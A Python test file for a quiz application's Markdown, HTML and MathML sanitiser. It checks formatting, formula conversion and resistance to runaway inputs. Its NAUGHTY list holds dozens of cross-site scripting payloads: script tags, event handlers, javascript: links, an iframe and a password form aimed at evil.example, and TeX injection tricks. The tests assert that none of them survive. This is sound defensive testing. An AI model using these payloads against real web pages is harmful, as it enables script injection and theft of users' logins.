"""Markdown and the sanitiser: what is kept, and that nothing that runs survives."""

import re
import subprocess
import sys

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from quiz.banks.model import Question
from quiz.files.mathematics import in_html, with_brackets
from quiz.files.plainly import paragraphs
from quiz.files.richtext import (
    Html,
    Plain,
    sanitise,
    to_html,
    to_html_around,
    to_inline_html,
    to_prompt_html,
    to_text,
)
from tests.effort import within

NAUGHTY = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/logout)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![<b>x](x)",
    '![x" onerror="alert(1)](x)',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed">x</p>',
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<a href='https://x' onclick='alert(1)'>x</a>",
    '[x](https://x.example "onmouseover=alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>x</script> |\n|---|\n| <img src=x onerror=x> |",
    "[x]: javascript:alert(1)\n\n[x]",
    "\u202e<script>\u2066",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\style{position:fixed}{x}$ $\class{q-page}{x}$ $\color{white}{x}$",
    r'$x" onclick="alert(1)$',
    r"\(\text{</mtext><a href=javascript:alert(1)>x</a>}\)",
    r"$\begin{foo onload=alert(1)}x\end{foo onload=alert(1)}$",
    r"$$\unicode{<script>}$$",
]
#: Everything that may stand in a page made from authored text; a test of the sanitiser that is written apart from it.
KEPT = {"a": {"href", "title", "rel"}, "ol": {"start"}, "abbr": {"title"}}
RUNS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "form",
    "input",
    "img",
    "base",
    "meta",
    "link",
    "video",
}


#: Of MathML: its elements hold nothing but MathML and text, and these attributes.
MATHML = {
    "display",
    "alttext",
    "aria-label",
    "stretchy",
    "fence",
    "form",
    "movablelimits",
    "width",
    "notation",
}


def assert_harmless(html):
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        assert element.name not in RUNS, html
        in_formula = element.name == "math" or element.find_parent("math")
        assert not in_formula or element.name.startswith("m"), html
        assert set(element.attrs) <= (MATHML if in_formula else KEPT.get(element.name, set())), html
        if "href" in element.attrs:
            assert element["href"].startswith(("https://", "http://", "mailto:")), html


@pytest.mark.parametrize("text", NAUGHTY)
@pytest.mark.parametrize("render", [to_html, to_inline_html, to_prompt_html, sanitise])
def test_nothing_that_runs_survives(text, render):
    assert_harmless(render(text))
    assert_harmless(render(f"**before** {text} *after*"))


@given(st.text(st.sampled_from("<>\"'=&;/\\!-[]()`*_# \nabjavscript:on${}^"), max_size=60))
def test_no_text_makes_anything_that_runs(text):
    for render in (to_html, to_inline_html, sanitise):
        assert_harmless(render(text))
    assert "\n" not in to_text(text)


@pytest.mark.parametrize(
    "markdown, html",
    [
        ("How **many**?", "<p>How <strong>many</strong>?</p>"),
        ("a\n\nb", "<p>a</p>\n<p>b</p>"),
        ("# Title", "<h3>Title</h3>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("~~old~~ `x < 1`", "<p><s>old</s> <code>x &lt; 1</code></p>"),
        ("a <b>b</b>", "<p>a &lt;b&gt;b&lt;/b&gt;</p>"),
        ("![a map](x.png)", "<p>a map</p>"),
        ("See\n![a map](x.png)\nof it", "<p>See<br>\na map<br>\nof it</p>"),
        ("See\nthe ![flag](x.png) of\nit", "<p>See\nthe flag of\nit</p>"),
        (
            "[SCO](https://eng.sectsco.org)",
            '<p><a href="https://eng.sectsco.org" rel="noopener noreferrer nofollow">SCO</a></p>',
        ),
    ],
)
def test_markdown(markdown, html):
    assert to_html(markdown) == html


def test_tables_are_kept():
    assert "<td>8</td>" in to_html("| members |\n|---|\n| 8 |")


def test_a_prompt_of_one_paragraph_is_inline():
    assert to_prompt_html("How **many**?") == "How <strong>many</strong>?"
    assert to_prompt_html("a\n\nb") == "<p>a</p>\n<p>b</p>"
    assert to_prompt_html("- a") == "<ul>\n<li>a</li>\n</ul>"


def test_an_option_is_inline_even_where_it_looks_like_a_list():
    assert to_inline_html("1. May") == "1. May"
    assert to_inline_html("*May*") == "<em>May</em>"


@pytest.mark.parametrize(
    "markdown, text",
    [("How **many**?", "How many?"), ("a\n\nb", "a b"), ("a  b", "a b"), ("a < b & c", "a < b & c"), ("`*`", "*"),
     ("2001", "2001"), ("In 2001, 5 states (of 6)", "In 2001, 5 states (of 6)"), ("|a|b|\n|-|-|\n|1|2|", "a b 1 2"),
     ("[x](https://y.example)", "x"), ("<b>x</b>", "<b>x</b>"), ("1. May", "1. May"), ("- 5", "- 5"), (">", ">"), ("+", "+"),
     ("- a\n- b", "a b")],
)  # fmt: skip
def test_words_alone(markdown, text):
    assert to_text(markdown) == text


@given(st.text(st.sampled_from("ab1 ,.;?'()-–/%"), max_size=20))
def test_plain_words_take_the_short_way_with_the_same_result(text):
    rendered = BeautifulSoup(to_inline_html(text), "html.parser").get_text(" ")
    if text[:1].isalpha() or (text[:1].isdecimal() and text[1:2] not in (".", ")")):
        assert to_text(text) == " ".join(rendered.split())


# Mathematics -------------------------------------------------------------------------------------------------------


def formula(tex, inner, display=""):
    return f'<math{display} alttext="{tex}" aria-label="{tex}"><mrow>{inner}</mrow></math>'


X = formula("x", "<mi>x</mi>")
APART = formula("x", "<mi>x</mi>", ' display="block"')


@pytest.mark.parametrize(
    "markdown, html",
    [
        ("$x$", X),
        (r"\(x\)", X),
        (r"\( x \)", X),
        ("a $x$, **$x$**", f"a {X}, <strong>{X}</strong>"),
        ("so $$x$$ is", f"so {APART} is"),
        ("$x<1$", formula("x&lt;1", "<mi>x</mi><mo>&lt;</mo><mn>1</mn>")),
        ("$x_1 and y_1$", formula("x_1 and y_1", "<msub><mi>x</mi><mn>1</mn></msub><mi>a</mi><mi>n</mi><mi>d</mi><msub><mi>y</mi><mn>1</mn></msub>")),
        (r"$\mathop{x}$", formula(r"\mathop{x}", "<mrow><mrow><mi>x</mi></mrow></mrow>")),
        # money, and dollars that are no pair
        ("$5 and $10", "$5 and $10"),
        ("from US$5 to US$10", "from US$5 to US$10"),
        ("$5, or $x$", f"$5, or {X}"),
        ("$ x$ $x $ $x$2", "$ x$ $x $ $x$2"),
        (r"\$x\$", "$x$"),
        ("$", "$"),
        ("$$", "$$"),
        ("$$ $$", "$$ $$"),
        ("`$x$`", "<code>$x$</code>"),
        (r"\(x", "(x"),
        # what is no TeX that we know is shown as it was typed
        (r"$\unknown{x}$", r"<code>$\unknown{x}$</code>"),
        (r"$\frac{$", r"<code>$\frac{$</code>"),
        (r"$\frac1$", r"<code>$\frac1$</code>"),
        (r"\(\frac{\)", r"<code>\(\frac{\)</code>"),
        (r"$\newcommand{\a}{x}\a$", r"<code>$\newcommand{\a}{x}\a$</code>"),
        (r"$\def\a{x}\a$", r"<code>$\def\a{x}\a$</code>"),
        ("$" + "x" * 2001 + "$", "$" + "x" * 2001 + "$"),
    ],
)  # fmt: skip
def test_mathematics_in_a_line(markdown, html):
    assert to_inline_html(markdown) == html
    assert to_prompt_html(markdown) == html


@pytest.mark.parametrize(
    "markdown, html",
    [
        ("$$x$$", f"<p>{APART}</p>"),
        ("$$\nx\n$$", f"<p>{APART}</p>"),
        ("a\n$$\nx\n$$\nb", f"<p>a</p>\n<p>{APART}</p>\n<p>b</p>"),
        ("> $$\n> x\n> $$", f"<blockquote>\n<p>{APART}</p>\n</blockquote>"),
        ("$$\nx\n\n$$", "<p>$$\nx</p>\n<p>$$</p>"),
        ("    $$x$$", "<pre><code>$$x$$\n</code></pre>"),
        ("| a |\n|---|\n| $x$ |", f"<td>{X}</td>"),
    ],
)
def test_mathematics_apart(markdown, html):
    assert html in to_html(markdown)


def test_a_block_is_no_list_and_no_heading():
    html = to_html("$$\na\n- b\n= c\n$$")
    assert html.count("<p>") == 1
    assert "<mo>−</mo><mi>b</mi><mo>=</mo>" in html


def test_words_of_mathematics_are_its_tex():
    assert to_text("so $x^2$ & $$\\frac{1}{2}$$, $5") == r"so x^2 & \frac{1}{2}, $5"


def test_formulas_of_html_have_words_too():
    """MathML as other systems write it: its TeX where it says that, else its signs; labels had nothing of it."""
    named = Html('<p>if <math alttext="x<y"><mi>x</mi><mo>&lt;</mo><mi>y</mi></math>, so</p>')
    assert to_text(named) == "if x<y, so"
    assert to_text(Html("a <math><mi>z</mi><mo>&gt;</mo><mn>2</mn></math>")) == "a z>2"


@pytest.mark.parametrize(
    "tex",
    [
        "{" * 900 + "}" * 900,
        "^" * 500,
        r"\left(" * 200,
        r"\sqrt" * 300,
        r"\hspace{9999em}x",
        "\\",
        "&" * 99,
        "\x00",
    ],
)
def test_mathematics_never_raises(tex):
    for render in (to_html, to_inline_html, to_text):
        assert render(f"${tex}$")


def test_a_formula_does_not_push_the_page_aside():
    assert "<mspace></mspace>" in to_html(r"$\hspace{9999em}x$")
    assert '<mspace width="2em">' in to_html(r"$\hspace{2em}x$")


def test_mathml_that_somebody_writes_is_not_kept():
    assert "<math" not in sanitise("<math><mi>x</mi></math>")
    assert "<math" not in to_html("<math><mi>x</mi></math>")


def test_only_mathematics_loads_the_converter():
    program = "import sys; from quiz.files.richtext import to_html; to_html('$5 *and* $10'); print('latex2mathml' in sys.modules)"
    found = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True, timeout=60
    )
    assert found.stdout == "False\n"


# Texts with marks --------------------------------------------------------------------------------------------------

MARK = re.compile(r"\[\[(\w+)\]\]")


@pytest.mark.parametrize(
    "markdown, pieces",
    [
        ("a [[1]], **b [[2]]**", ("<p>a ", "1", ", <strong>b ", "2", "</strong></p>")),
        ("[[1]]\n\n- [[2]]", ("<p>", "1", "</p>\n<ul>\n<li>", "2", "</li>\n</ul>")),
        ("[[1]] [[1]]", ("<p>", "1", " </p>")),
        ("none", ("<p>none</p>",)),
        ('[x](https://x.example "[[1]]") [[2]]', ('<p><a href="https://x.example" title="" rel="noopener noreferrer nofollow">x</a> ', "2", "</p>")),
        ("\ue0000\ue001 [[1]]", ("<p>0 ", "1", "</p>")),
    ],
)  # fmt: skip
def test_a_text_is_cut_at_its_marks(markdown, pieces):
    assert to_html_around(markdown, MARK) == pieces


# Texts of other systems --------------------------------------------------------------------------------------------


def test_html_is_kept_and_made_safe_when_it_is_shown():
    text = Html('<p onclick="x()">2 * 3 * 4 <b>&lt; 99</b></p><script>x()</script>\n<p>b</p>')
    assert to_html(text) == "<p>2 * 3 * 4 <b>&lt; 99</b></p>\n<p>b</p>"
    assert to_inline_html(Html("<p>a</p>\n<p>b</p>")) == "a<br>b"
    assert to_text(text) == "2 * 3 * 4 < 99 b"


def test_html_of_other_systems_has_formulas_between_the_marks_of_mathjax():
    """A dollar alone is money there, code stays code, and what is no TeX stays as it was typed."""
    words = Html(
        r"<p>\(a &lt; 2\) $$b$$ \[c&nbsp;d\] $x$ and $y$</p><pre>\(e\)</pre><code>$$f$$</code> \(\nix{g}\) \(<i>h</i>\)"
    )
    shown = to_html(words)
    assert re.findall(r'<math( display="block")? alttext="([^"]*)"', shown) == [
        ("", "a &lt; 2"), (' display="block"', "b"), (' display="block"', "c d"),
    ]  # fmt: skip
    for kept in ("$x$ and $y$", r"<pre>\(e\)</pre><code>$$f$$</code>", r"\(\nix{g}\) \(<i>h</i>\)"):
        assert kept in shown
    assert "<math" in to_inline_html(Html(r"\(a\)"))


@pytest.mark.parametrize(
    "html, shown, inline, words",
    [
        ("<div>a</div><div>b</div>", "<div>a</div><div>b</div>", "a<br>b", "a b"),
        ("<h1 id='x'>a</h1>b<section>c</section>", "<h3>a</h3>b<div>c</div>", "a<br>b<br>c", "a b c"),
        ("<dl><dt>a</dt><dd>b</dd></dl>", "<dl><dt>a</dt><dd>b</dd></dl>", "a<br>b", "a b"),
        ('<table><tr><td colspan="2">a</td><td rowspan="999">b</td></tr></table>',
         '<table><tbody><tr><td colspan="2">a</td><td>b</td></tr></tbody></table>', "a  b", "a b"),
    ],
)  # fmt: skip
def test_blocks_of_html_stay_apart(html, shown, inline, words):
    """Editors write ``<div>`` for a line, and headings as if the text was a page."""
    text = Html(html)
    assert (to_html(text), to_inline_html(text), to_text(text)) == (shown, inline, words)


def test_plain_text_means_no_more_than_it_says():
    text = Plain("a *b* <i>\nc & d\n\n# e")
    assert to_html(text) == "<p>a *b* &lt;i&gt;<br>c &amp; d</p><p># e</p>"
    assert to_text(text) == "a *b* <i> c & d # e"
    assert to_html(str(text)).startswith(
        "<p>a <em>b</em>"
    )  # the same characters as Markdown, at the same time


def test_a_question_says_how_all_its_texts_are_written():
    fields = {
        "bank": "b", "id": "x", "type": "cloze", "timeless": True, "text_format": "html", "prompt": "<p>*P*</p>",
        "text": "<p>*a* [[1]]</p>", "gaps": {"1": {"type": "single_choice", "options": [
            {"text": "<i>*b*</i>", "correct": True}, "c"]}},
    }  # fmt: skip
    loaded = Question.load(fields)
    shown = loaded.present(())
    assert shown.prompt == "*P*"
    assert shown.controls["text"][0]["html"] == "<p>*a* "
    assert shown.controls["gaps"][0]["controls"]["options"][0] == "<i>*b*</i>"
    assert Question.load(loaded.dump()) == loaded
    assert loaded.dump()["text"] == fields["text"]


def test_readings_over_characters_are_kept():
    """Ruby: pinyin over characters, as QTI 3.0 has it too."""
    ruby = "<ruby><rb>上海</rb><rt>Shànghǎi</rt></ruby>"
    assert to_inline_html(Html(ruby)) == ruby
    assert to_html(Html(f"<p>{ruby} is a city.</p>")) == f"<p>{ruby} is a city.</p>"


def test_a_kept_image_is_its_words_where_only_words_stand():
    """An option that is a picture alone was taken for a blank one."""
    kept = f"media:{'0' * 64}/8x6/images/bar.png"
    assert to_text(f"![a bar]({kept})") == "a bar"
    assert to_text(Html(f'<p><img src="{kept}" alt="a bar"> x</p>')) == "a bar x"


@pytest.mark.parametrize(
    "fenced, shown",
    [
        ("<mfenced><mi>x</mi><mi>y</mi></mfenced>", "(x,y)"),
        ('<mfenced open="[" close="]" separators=";,"><mn>1</mn><mn>2</mn><mn>3</mn><mn>4</mn></mfenced>', "[1;2,3,4]"),
        ("<mfenced open='' close='|' separators=''><mn>1</mn><mspace/><mn>2</mn></mfenced>", "12|"),
        ('<mfenced open="&lt;" close=">"/><mfenced><mrow><mi>a</mi><mi>b</mi></mrow></mfenced>', "<>(ab)"),
        ("<mfenced><mi>x</mi></math></mfenced>", "(x"),
    ],
)  # fmt: skip
def test_brackets_of_formulas_are_shown(fenced, shown):
    """Moodle's editor of formulas writes them so, and no browser of today shows any: f(x) was fx."""
    html = Html(f"<p><math>{fenced}</math></p>")
    assert to_text(html) == shown
    assert "mfenced" not in to_html(html)


@pytest.mark.parametrize("endless", ["<mfenced>" * 10_000, "<mfenced>" + "<i>" * 10_000 + "</b>" * 10_000, "<mfenced " + '<a "' * 10_000])  # fmt: skip
def test_brackets_that_do_not_end_are_looked_at_once(endless):
    with within(millions=10):
        assert "mfenced>" not in with_brackets(endless)


@pytest.mark.parametrize("endless", [r"\(" * 500_000, r"\[" * 500_000, r"\(<" + "a" * 1_000_000])
def test_formulas_and_tags_that_do_not_end_are_looked_at_once(endless):
    with within(millions=100):  # it takes 2, and took 300 to many thousands
        assert in_html(endless) == endless


def test_a_backslash_in_a_formula_takes_the_next_character_with_it():
    assert to_html(Html(r"\[ a \\[2pt] b \] c \]")).endswith(r"</math> c \]")


@pytest.mark.parametrize(
    "html, seen",
    [
        ('<ol start="first"><li>a</li></ol>', ["1. a"]),
        ("<math><mfrac><mi>a</mi></mfrac></math>", ["a"]),
        ("<math><msubsup><mi>a</mi></msubsup></math>", ["a"]),
        ("<div>" * 2000 + "deep", ["deep"]),
    ],
)
def test_what_no_program_would_write_is_still_put_on_paper(html, seen):
    assert [*paragraphs(to_html(Html(html)))] == seen
